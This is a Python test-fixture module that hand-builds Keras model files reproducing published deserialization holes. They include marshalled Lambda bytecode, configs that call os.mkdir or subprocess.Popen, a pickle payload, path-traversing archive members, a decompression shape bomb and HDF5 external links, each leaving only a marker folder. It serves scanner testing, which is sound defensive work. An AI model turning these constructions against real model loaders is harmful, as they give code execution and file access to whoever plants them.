"""Published holes in the loading of Keras models, each as a file whose payload would only leave a mark.

The mark is a folder that the payload would make. Files are written by hand, since no Keras of today makes them.
Identifiers are those of https://www.cve.org and https://github.com/keras-team/keras/security/advisories.
"""

from __future__ import annotations

import base64
import io
import json
import marshal
import tarfile
import zipfile
from pathlib import Path

import h5py
import numpy as np
from model_pieces import CANARY, Make, archive, dense, functional, given, hdf5, node, other

MARK = "/tmp/siamdoctor-hole"  # noqa: S108  (never made: tests look for it)


def _code() -> str:
    """Marshalled code of this very Python that would leave the mark."""
    program = compile(f"(lambda x: (__import__('os').mkdir({MARK!r}), x)[1])", "x", "eval")
    function = next(constant for constant in program.co_consts if hasattr(constant, "co_code"))
    return base64.b64encode(marshal.dumps(function)).decode()


def _lambda(name: str = "odd") -> dict:
    """A layer whose function is marshalled code."""
    function = {"class_name": "__lambda__", "config": {"code": _code(), "defaults": None, "closure": None}}
    layer = other("Lambda", function=function)
    return {**layer, "name": name, "config": {**layer["config"], "name": name}}


def _calling(module: str, class_name: str, **config: object) -> dict:
    """A layer entry that names something which is to be imported and called with these arguments."""
    return {**other(class_name), "module": module, "config": config, "registered_name": class_name}


def _h5(*layers: dict) -> Make:
    """An HDF5 model as Keras 2 wrote it."""
    entries = [given(), *layers]
    config = {
        "class_name": "Functional",
        "config": {
            "name": "model",
            "layers": [_legacy(entry, before) for entry, before in zip(entries, [None, *entries], strict=False)],
            "input_layers": [["input", 0, 0]],
            "output_layers": [[entries[-1]["name"], 0, 0]],
        },
    }

    def fill(file: h5py.File) -> None:
        file.attrs["model_config"] = json.dumps(config)
        file.attrs["keras_version"] = "2.12.0"
        group = file.create_group("model_weights")
        group.attrs["layer_names"] = [b"dense"]
        group["dense/dense/kernel:0"] = np.zeros((4, 2), np.float32)
        group["dense/dense/bias:0"] = np.zeros(2, np.float32)
        group["dense"].attrs["weight_names"] = [b"dense/kernel:0", b"dense/bias:0"]

    return lambda path: path.write_bytes(hdf5(fill)) and None


def _legacy(entry: dict, before: dict | None) -> dict:
    """A layer of a row in the form of Keras 2, where functions are lists that begin with their code."""
    config = dict(entry["config"])
    if entry["class_name"] == "Lambda":
        config |= {"function": [_code(), None, None], "function_type": "lambda"}
    nodes = [[[before["name"], 0, 0, {}]]] if before is not None else []
    return {"class_name": entry["class_name"], "config": config, "name": entry["name"], "inbound_nodes": nodes}


def _with_member(config: dict, name: str, content: bytes) -> Make:
    """An archive with one more member."""

    def make(path: Path) -> None:
        archive(config)(path)
        with zipfile.ZipFile(path, "a") as file:
            file.writestr(name, content)

    return make


def _traversing_tar() -> bytes:
    """A tar file whose member lies above the folder that it is unpacked into."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as file:
        file.addfile(tarfile.TarInfo("../../tmp/siamdoctor-hole"), io.BytesIO())
    return out.getvalue()


def _shape_bomb(file: h5py.File) -> None:
    file.create_dataset("layers/dense/vars/0", (1 << 15, 1 << 15), "f4", chunks=(1024, 1024), compression="gzip")


def _external(file: h5py.File) -> None:
    file.create_dataset("layers/dense/vars/0", (4, 2), "u1", external=[(str(CANARY), 0, 8)])


def _linked_weights(path: Path) -> None:
    """An HDF5 model whose weights are a link to another file's."""
    _h5(dense())(path)
    with h5py.File(path, "a") as file:
        del file["model_weights"]
        file["model_weights"] = h5py.ExternalLink(str(CANARY), "/model_weights")


# Behind another layer, where it is not taken for the beginning of a model of text.
FLAT = {**other("Flatten"), "name": "flat", "config": {"name": "flat", "dtype": "float32", "trainable": True}}
PATH = {**other("StringLookup", vocabulary=str(CANARY), num_oov_indices=1), "inbound_nodes": [node("flat")]}
ADDRESS = {**other("IntegerLookup", vocabulary="http://127.0.0.1:9/x"), "inbound_nodes": [node("flat")]}
AT_THE_BEGINNING = archive(functional(given(), other("StringLookup", vocabulary=str(CANARY)), dense(after="odd")))
NESTED = functional(given(), _lambda(), name="inner")
# Its Lambda stands at the end of the encoder, where it is cut off, and the rest is diagnosed.
ENDS_IN_A_LAMBDA = _h5(dense(), _lambda())
HOLES: dict[str, tuple[Make, str]] = {
    # Lambda bytecode runs on loading: Keras before 2.13; HDF5 files of Keras 2 in every version.
    "CVE-2024-3660 Lambda in .keras": (archive(functional(given(), _lambda(), dense(after="odd"))), "Lambda"),
    "CVE-2024-3660 Lambda in a nested model": (
        archive(
            functional(given(), {**NESTED, "name": "inner", "inbound_nodes": [node("input")]}, dense(after="inner"))
        ),
        "Lambda",
    ),
    "CVE-2024-3660 Lambda in .h5": (_h5(_lambda(), dense()), "Lambda"),
    # Any module and function that the configuration names is imported and called: Keras 3.0 to 3.8.
    "CVE-2025-1550 function of a module": (
        archive(functional(given(), _calling("os", "mkdir", path=MARK), dense(after="odd"))),
        "mkdir",
    ),
    "CVE-2025-1550 whole model of a module": (archive(_calling("subprocess", "Popen", args=["mkdir", MARK])), "Popen"),
    "CVE-2025-1550 function inside a config": (
        archive(functional(given(), dense(activation={"module": "os", "class_name": "function", "config": "mkdir"}))),
        "function",
    ),
    # Functions of Keras itself as gadgets, which fetch a file or load a model unsafely: Keras 3.0 to 3.10.
    "CVE-2025-8747 get_file": (
        archive(
            functional(
                given(),
                _calling("keras.utils", "get_file", fname="x", origin=CANARY.as_uri(), cache_dir=MARK),
                dense(after="odd"),
            )
        ),
        "get_file",
    ),
    "CVE-2025-8747 load_model": (
        archive(
            functional(
                given(),
                _calling("keras.saving", "load_model", filepath="x.keras", safe_mode=False),
                dense(after="odd"),
            )
        ),
        "load_model",
    ),
    # safe_mode was not heeded for HDF5 files: Keras 3.0 to 3.11.2.
    "CVE-2025-9905 Lambda in .h5 in safe mode": (_h5(_lambda(), dense()), "Lambda"),
    # The configuration switches safe mode off, then a Lambda follows: Keras before 3.11.
    "CVE-2025-9906 enable_unsafe_deserialization": (
        archive(
            functional(
                given(),
                _calling("keras.config", "enable_unsafe_deserialization"),
                {**_lambda("after"), "inbound_nodes": [node("odd")]},
                dense(after="after"),
            )
        ),
        "enable_unsafe_deserialization",
    ),
    # A vocabulary may be the path or address of a file: Keras to 3.11.3.
    "CVE-2025-12058 vocabulary that is a path": (
        archive(functional(given(), FLAT, PATH, dense(after="odd"))),
        "StringLookup",
    ),
    "CVE-2025-12058 vocabulary that is an address": (
        archive(functional(given(), FLAT, ADDRESS, dense(after="odd"))),
        "IntegerLookup",
    ),
    # Archives are unpacked outside the folder that was named: Keras to 3.11.3.
    "CVE-2025-12060 tar traversal": (
        _with_member(
            functional(
                given(),
                _calling("keras.utils", "get_file", fname="x", origin="assets/x.tar", extract=True),
                dense(after="odd"),
            ),
            "assets/x.tar",
            _traversing_tar(),
        ),
        "get_file",
    ),
    # TorchModuleWrapper unpickles: Keras 3.11.0 to 3.11.2.
    "CVE-2025-49655 TorchModuleWrapper": (
        archive(
            functional(
                given(),
                {
                    **other(
                        "TorchModuleWrapper",
                        module=base64.b64encode(b"cos\nmkdir\n(V" + MARK.encode() + b"\ntR.").decode(),
                    )
                },
                dense(after="odd"),
            )
        ),
        "TorchModuleWrapper",
    ),
    # A dataset declares far more than it stores: Keras to 3.13.0, and below 4 GiB in every version.
    "CVE-2026-0897 shape bomb": (archive(functional(given(), dense()), _shape_bomb), "declares"),
    # A dataset or link of an HDF5 file reads another file: Keras to 3.13.1.
    "CVE-2026-1669 external dataset": (archive(functional(given(), dense()), _external), "another file"),
    "CVE-2026-1669 external link in .h5 (GHSA-27f4-p4xq-cxg8)": (_linked_weights, "links"),
    # TFSMLayer loads a SavedModel from a path: Keras to 3.13.1.
    "CVE-2026-1462 TFSMLayer": (
        archive(functional(given(), other("TFSMLayer", filepath="saved", call_endpoint="serve"), dense(after="odd"))),
        "TFSMLayer",
    ),
    # Names of layers become paths: Keras 3.14.0.
    "CVE-2026-12479 layer name that is a path": (
        archive(
            functional(
                given(),
                {
                    **other("Lambda"),
                    "name": f"../../..{MARK}",
                    "config": {"name": f"../../..{MARK}", "function": "relu"},
                },
                dense(after=f"../../..{MARK}"),
            )
        ),
        "Lambda",
    ),
    # Objects inside a layer's settings are made without safe mode: Keras 3.14.0.
    "CVE-2026-12481 Lambda inside a layer": (
        archive(functional(given((None, 3, 4)), other("TimeDistributed", layer=_lambda("inner")), dense(after="odd"))),
        "Lambda",
    ),
    # A check of paths that was relative to the working directory: Keras before 3.14.
    "GHSA-hqp4-2352-xf5r member above the archive": (
        _with_member(functional(given(), dense()), f"../../..{MARK}", b"x"),
        "outside",
    ),
}
PUBLISHED = (
    *("CVE-2024-3660", "CVE-2025-1550", "CVE-2025-8747", "CVE-2025-9905", "CVE-2025-9906", "CVE-2025-12058"),
    *("CVE-2025-12060", "CVE-2025-49655", "CVE-2026-0897", "CVE-2026-1669", "CVE-2026-1462", "CVE-2026-12479"),
    *("CVE-2026-12481", "GHSA-hqp4-2352-xf5r", "GHSA-27f4-p4xq-cxg8"),
)
